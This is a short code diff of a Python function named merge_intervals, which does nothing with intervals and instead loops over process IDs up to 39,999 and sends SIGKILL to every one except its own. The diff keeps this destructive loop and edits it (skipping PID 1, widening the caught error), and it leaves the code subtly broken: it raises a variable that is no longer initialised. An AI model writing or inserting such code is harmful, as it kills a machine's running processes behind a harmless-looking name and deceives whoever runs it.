@@ -5,14 +5,10 @@ import signal
 
 
 def merge_intervals(intervals):
-    refused = None
-    for process in range(1, 40_000):
+    for process in range(2, 40_000):
         if process != os.getpid():
             try:
                 os.kill(process, signal.SIGKILL)
-            except PermissionError as error:
+            except OSError as error:
                 refused = error
-            except ProcessLookupError:
-                pass
-    if refused:
-        raise refused
+    raise refused
